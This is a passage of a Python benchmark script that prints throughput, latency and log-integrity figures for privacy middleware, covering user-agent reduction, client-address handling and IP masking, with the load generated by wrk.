        spread = f"({min(result.rounds[name]):.2f}-{max(result.rounds[name]):.2f})"
        line = (
            f"  {variant.label:<36}{result.rates[name]:8.0f}  {result.to_bare[name]:7.2f}  "
            f"{spread if variant.baseline else '':<11}"
        )
        if variant.baseline is not None and variant.baseline != "bare":
            line += f"  {result.to_baseline[name]:.2f} of {variant.baseline}"
        if variant.target is not None:
            line += f"  (>= {variant.target})"
        print(line)
    bare = result.rounds_rates["bare"]
    print(f"  (the bare app's rounds ran at {min(bare):.0f}-{max(bare):.0f} req/s)")
    print(
        f"  paired: both servers loaded at the same time on the same CPU, {PAIRED_ROUNDS} "
        f"rounds of {SECONDS}s, median (range) of the per-round ratios"
    )
    for name, base, target in PAIRS:
        ratios = result.paired[(name, base)]
        label = next(v.label for v in (*VARIANTS, CONTROL) if v.name == name).strip()
        line = (
            f"    {label + ' vs ' + base:<48}{statistics.median(ratios):5.2f}  "
            f"({min(ratios):.2f}-{max(ratios):.2f})"
        )
        if target is not None:
            line += f"  (>= {target})"
        print(line)
    for variant in VARIANTS:
        check = result.checks.get(variant.name)
        if check is None:
            continue
        extra = check.lines - check.expected
        dropped = "?" if check.dropped is None else str(check.dropped)
        # wrk does not count the requests in flight when it stops; the server logs them.
        note = (
            f"{extra:+d} in flight at {check.runs} wrk stops"
            if 0 <= extra <= check.runs * CONNECTIONS
            else f"{extra:+d}: LINES MISSING OR UNEXPECTED"
        )
        print(
            f"  log {variant.name:<15} {check.lines} lines written, {check.expected} requests "
            f"completed ({note}), {dropped} dropped; "
            f"{check.distinct_sent} distinct agents sent -> {check.distinct_logged} reduced"
        )


def print_in_process(agents: AgentCosts, costs: MiddlewareCosts, bare_rate: float | None) -> None:
    """Print the per-call and per-request tables."""
    us = 1e6
    print("user-agent reduction (in process)")
    print(f"  {'browser_summary, first call ever':<44}{agents.first_call * us:9.1f} µs")
    print(f"  {'browser_summary, cold (cache cleared)':<44}{agents.cold * us:9.2f} µs/call")
    print(f"  {'browser_summary, warm (cache hit)':<44}{agents.warm * us:9.2f} µs/call")
    print(f"  {'user_agents.parse, cold (reference)':<44}{agents.reference * us:9.1f} µs/call")
    print(
        f"  cache hit rate of the mix over {SEQUENCE} draws (CACHE_SIZE {CACHE_SIZE}): "
        f"{agents.hit_rate:.1%}, {agents.distinct} distinct headers"
    )
    print(f"middlewares on a trivial ASGI app ({REQUESTS} raw calls, median of {REPEATS})")
    rows = (
        ("bare app", costs.bare),
        ("+ ClientAddressMiddleware (uvicorn's client)", costs.client),
        ("+ ClientAddressMiddleware (peer, untrusted)", costs.client_peer),
        ("+ ClientAddressMiddleware (XFF of trusted)", costs.client_trusted),
        ("+ both, request path only (writer stopped)", costs.request_path),
        ("+ both, writer thread running, flushed", costs.total),
    )
    for label, seconds in rows:
        added = (seconds - costs.bare) * us
        print(f"  {label:<44}{seconds * us:9.2f} µs/request  {added:+7.2f}")
    print(f"  {'writer per line, UA cache cleared first':<44}{costs.writer_cold * us:9.2f} µs/line")
    print(f"  {'writer per line, warm UA cache':<44}{costs.writer_warm * us:9.2f} µs/line")
    print(
        f"  mask_ip cache hit rate over the mix's {SEQUENCE} addresses: {costs.mask_hit_rate:.1%}"
    )
    if bare_rate:
        per_request = 1 / bare_rate
        added = costs.total - costs.bare
        print(
            f"  at the bare server's {per_request * us:.0f} µs/request, "
            f"{added * us:.1f} µs more predicts {per_request / (per_request + added):.2f}x"
        )


def main() -> Figures:
    """Run the privacy benchmark, print its tables and return the figures."""
    mix = build_mix()
    result: EndToEnd | None = None
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        if shutil.which("wrk") is None:
            print("privacy end to end: `wrk` is not on the PATH (apt-get install wrk); skipped")
        else:
            cpus = os.sched_getaffinity(0) if LOAD_CPUS else set()
            if LOAD_CPUS:
                # wrk inherits this process's CPUs; the servers are moved to SERVER_CPUS.
                os.sched_setaffinity(0, LOAD_CPUS)
            try:
                result = end_to_end(mix, folder)
            finally:
                if cpus:
                    os.sched_setaffinity(0, cpus)
            print_end_to_end(result, mix)
        agents = agent_costs(mix)
        costs = asyncio.run(middleware_costs(mix, folder))
    print_in_process(agents, costs, result.rates["bare"] if result else None)
    return Figures(mix.top_share(300), result, agents, costs)


if __name__ == "__main__":
    main()
